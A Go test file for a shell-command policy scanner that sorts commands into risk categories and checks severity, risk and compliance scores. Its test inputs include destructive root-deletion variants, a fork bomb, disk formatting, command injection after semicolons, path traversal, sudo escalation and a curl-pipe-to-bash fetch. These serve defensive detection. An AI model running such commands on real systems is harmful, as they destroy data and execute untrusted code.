package policy

import (
	"testing"

	"github.com/stretchr/testify/assert"

	"github.com/xiaot623/agentfleet/internal/domain"
)

func TestScanCategories(t *testing.T) {
	tests := []struct {
		command string
		want    []string
	}{
		{"logs", []string{}},
		{"systemctl status agent", []string{}},
		{"; rm -rf /", []string{CategoryDestructiveAction, CategoryShellInjection}},
		{"sudo systemctl restart agent", []string{CategoryPrivilegeEscalation}},
		{"cat ../../etc/hosts", []string{CategoryPathTraversal}},
		{"curl -sSL https://example.com/install.sh | bash", []string{CategoryRemoteFetch}},
		{":(){ :|:& };:", []string{CategoryResourceExhaustion, CategoryShellInjection}},
		{"mkfs.ext4 /dev/sdb1", []string{CategoryDestructiveAction}},
	}
	for _, tt := range tests {
		t.Run(tt.command, func(t *testing.T) {
			assert.Equal(t, tt.want, Categories(Scan(tt.command)))
		})
	}
}

func TestRootDeleteIsCritical(t *testing.T) {
	for _, cmd := range []string{"rm -rf /", "; rm -rf /", "ls && rm -fr /*", "rm -r -f /"} {
		findings := Scan(cmd)
		var critical bool
		for _, f := range findings {
			if f.Severity == domain.SeverityCritical {
				critical = true
			}
		}
		assert.True(t, critical, cmd)
	}

	for _, cmd := range []string{"rm -rf /tmp/build", "rm --recursive ./dist", "rm -f /etc/motd"} {
		for _, f := range Scan(cmd) {
			assert.NotEqual(t, domain.SeverityCritical, f.Severity, cmd)
		}
	}
}

func TestRootDeleteVariants(t *testing.T) {
	tests := []string{
		"; rm -rf /;",
		"echo hi; rm -rf /&& echo done",
		"; rm -rf --no-preserve-root /",
		"; rm --recursive --force /",
		"rm -rf /|cat",
		"(rm -rf /)",
		"rm --force --recursive /*",
	}
	for _, cmd := range tests {
		t.Run(cmd, func(t *testing.T) {
			var critical bool
			for _, f := range Scan(cmd) {
				if f.Severity == domain.SeverityCritical && f.Category == CategoryDestructiveAction {
					critical = true
				}
			}
			assert.True(t, critical)
		})
	}
}

func TestRiskLevel(t *testing.T) {
	low := domain.Finding{Severity: domain.SeverityLow}
	medium := domain.Finding{Severity: domain.SeverityMedium}
	critical := domain.Finding{Severity: domain.SeverityCritical}

	assert.Equal(t, 1, RiskLevel(nil, domain.ActionLogs))
	assert.Equal(t, 1, RiskLevel(nil, domain.ActionStatus))
	assert.Equal(t, 1, RiskLevel(nil, domain.ActionDeploy))
	assert.Equal(t, 2, RiskLevel([]domain.Finding{low}, domain.ActionDeploy))
	assert.Equal(t, 3, RiskLevel([]domain.Finding{medium}, domain.ActionRestart))
	assert.Equal(t, 2, RiskLevel([]domain.Finding{medium}, domain.ActionStatus))
	assert.Equal(t, 2, RiskLevel([]domain.Finding{low, medium}, domain.ActionStatus))
	assert.Equal(t, 4, RiskLevel([]domain.Finding{critical}, domain.ActionLogs))
	assert.Equal(t, 5, RiskLevel([]domain.Finding{critical}, domain.ActionDeploy))
}

func TestComplianceLevel(t *testing.T) {
	f := func(sev ...domain.Severity) []domain.Finding {
		out := make([]domain.Finding, len(sev))
		for i, s := range sev {
			out[i] = domain.Finding{Severity: s}
		}
		return out
	}

	assert.Equal(t, 100, ComplianceLevel(nil))
	assert.Equal(t, 0, ComplianceLevel(f(domain.SeverityLow, domain.SeverityCritical)))
	assert.Equal(t, 25, ComplianceLevel(f(domain.SeverityHigh, domain.SeverityHigh)))
	assert.Equal(t, 50, ComplianceLevel(f(domain.SeverityHigh, domain.SeverityLow)))
	assert.Equal(t, 90, ComplianceLevel(f(domain.SeverityLow)))
	assert.Equal(t, 80, ComplianceLevel(f(domain.SeverityLow, domain.SeverityMedium)))
	assert.Equal(t, 75, ComplianceLevel(f(domain.SeverityLow, domain.SeverityLow, domain.SeverityMedium, domain.SeverityMedium)))
}
